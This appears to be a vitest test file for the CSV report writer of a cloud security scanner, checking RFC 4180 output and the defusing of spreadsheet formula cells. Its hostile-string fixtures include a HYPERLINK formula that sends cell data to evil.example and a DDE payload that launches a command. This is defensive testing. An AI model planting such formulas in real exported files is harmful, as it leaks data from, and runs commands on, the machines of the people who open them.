/**
 * The CSV report parsed back with csv-parse: every cell round-trips, with
 * the formula-defusing `'` where a cell starts with =, +, -, @, tab or CR.
 */
import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import { runCli } from '../../test/support/cli.js';
import type { Finding, ScanResult } from '../findings/schema.js';
import { csvCell } from '../text/csv.js';
import { csvFormatter, renderCsv } from './csv.js';

const HEADER = [
  'status', 'severity', 'policy', 'title', 'account', 'region', 'resource_type', 'resource_id', 'resource_name', 'resource_arn',
  'message', 'controls', 'evidence', 'reasons', 'remediation', 'remediation_cli', 'waiver', 'fingerprint',
];

/** RFC 4180 as written: CRLF records, `"` quotes; a column-count mismatch or stray quote throws. */
const parseCsv = (text: string): string[][] => parse(text, { record_delimiter: '\r\n', relax_quotes: false, relax_column_count: false });

const demo = JSON.parse((await runCli(['scan', '--snapshot', 'examples/demo-account.json', '--pack', 'assay-foundations', '--format', 'json'])).stdout) as ScanResult;

describe('CSV report of the demo scan', () => {
  const csv = renderCsv(demo);
  const rows = parseCsv(csv);

  it('has the header and one row per finding, in order, with CRLF after every record', () => {
    expect(rows[0]).toEqual(HEADER);
    expect(rows).toHaveLength(demo.findings.length + 1);
    expect(csv.endsWith('\r\n')).toBe(true);
    // Outside quoted cells every line break is CRLF: remove the quoted cells and look.
    expect(csv.replace(/"(?:[^"]|"")*"/g, '')).not.toMatch(/\r(?!\n)|(?<!\r)\n/);
    demo.findings.forEach((f, i) => {
      const row = Object.fromEntries(HEADER.map((name, j) => [name, rows[i + 1]![j]!]));
      expect(row).toMatchObject({ status: f.status, severity: f.severity, policy: f.policy, resource_id: f.resource.id, fingerprint: f.fingerprint, message: f.message });
      expect(row['controls']).toBe(f.controls.join(';'));
    });
  });

  it('writes compact evidence, reasons and every remediation command', () => {
    const row = (f: Finding): Record<string, string> => Object.fromEntries(HEADER.map((name, j) => [name, rows[demo.findings.indexOf(f) + 1]![j]!]));
    const failed = demo.findings.find((f) => f.policy === 'aws-cloudtrail-kms-encrypted' && f.status === 'FAIL')!;
    expect(row(failed)).toMatchObject({ evidence: 'kmsKeyId: null → exists true', remediation: failed.remediation!.text, remediation_cli: failed.remediation!.cli.join('\n') });
    const steps = demo.findings.find((f) => f.policy === 'aws-iam-user-console-mfa' && f.status === 'FAIL')!;
    expect(row(steps)['remediation_cli']!.split('\n')).toEqual(steps.remediation!.cli);
    const errored = demo.findings.find((f) => f.policy === 'aws-s3-bucket-denies-http' && f.status === 'ERROR')!;
    expect(row(errored)['reasons']).toBe(`AccessDenied at policy: ${errored.reasons![0]!.message}`);
  });

  it('is byte-identical for an equal result', () => {
    const style = { bold: String, dim: String, red: String, yellow: String, green: String, cyan: String };
    expect(csvFormatter.render(structuredClone(demo), { style })).toBe(csv);
    expect(csvFormatter).toMatchObject({ id: 'csv', extension: '.csv' });
  });
});

describe('CSV cells', () => {
  it.each([
    ['plain', 'plain'],
    ['', ''],
    ['a,b', '"a,b"'],
    ['say "hi"', '"say ""hi"""'],
    ['two\nlines', '"two\nlines"'],
    ['cr\ronly', '"cr\ronly"'],
    ['=1+1', "'=1+1"],
    ['+1', "'+1"],
    ['-2+3', "'-2+3"],
    ['@SUM(1)', "'@SUM(1)"],
    ['\tx', "'\tx"],
    ['\r=1', '"\'\r=1"'],
    ['=HYPERLINK("http://evil.example/?"&A1,"click")', '"\'=HYPERLINK(""http://evil.example/?""&A1,""click"")"'],
    ['a=b', 'a=b'],
    ['é 中文 😀', 'é 中文 😀'],
  ])('%j is written as %j', (value, written) => {
    expect(csvCell(value)).toBe(written);
  });
});

describe('CSV report of hostile strings', () => {
  const values = [
    '=HYPERLINK("http://evil.example/?"&A1,"click here")',
    "+cmd|' /C calc'!A0",
    '@SUM(1)',
    '-2+3',
    '\t=1+1',
    '\r=1+1',
    'say "hi", then, "bye"',
    'line one\nline two\r\nline three\rend',
    '"',
    ',',
    'é 中文 😀 \u200B \u0000\u0001 \uFFFF',
    ' =not at the start',
  ];
  const template = demo.findings.find((f) => f.status === 'FAIL')!;
  const findings: Finding[] = values.map((value, i) => ({
    ...structuredClone(template),
    title: value,
    message: value,
    resource: { type: value, id: `${value}${i}`, name: value, arn: value, account: value, region: value },
    evidence: [{ path: value, actual: value, op: 'equals', expected: value, result: 'fail' }],
    reasons: [{ path: 'p', code: value, message: value }],
    controls: [value, 'pack:1'],
    remediation: { text: value, cli: [value, value] },
    waiver: { reason: value, owner: 'o', expires: '2099-01-01', index: 0 },
    fingerprint: value,
  }));
  const rows = parseCsv(renderCsv({ ...demo, findings }));
  const defused = (value: string): string => (/^[=+\-@\t\r]/.test(value) ? `'${value}` : value);

  it('round-trips every cell, with a leading quote where a spreadsheet would see a formula', () => {
    expect(rows).toHaveLength(values.length + 1);
    values.forEach((value, i) => {
      const row = Object.fromEntries(HEADER.map((name, j) => [name, rows[i + 1]![j]!]));
      const json = JSON.stringify(value);
      expect(row, `value ${i}`).toEqual({
        status: 'FAIL', severity: template.severity, policy: template.policy,
        title: defused(value), account: defused(value), region: defused(value), resource_type: defused(value),
        resource_id: defused(`${value}${i}`), resource_name: defused(value), resource_arn: defused(value),
        message: defused(value), controls: defused(`${value};pack:1`),
        evidence: defused(`${value}: ${json} → equals ${json}`),
        reasons: defused(`${value} at p: ${value}`),
        remediation: defused(value), remediation_cli: defused(`${value}\n${value}`),
        waiver: defused(`${value} (owner o, until 2099-01-01)`),
        fingerprint: defused(value),
      });
    });
  });

  it('leaves no cell starting with a formula character', () => {
    for (const row of rows) for (const cell of row) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
  });
});
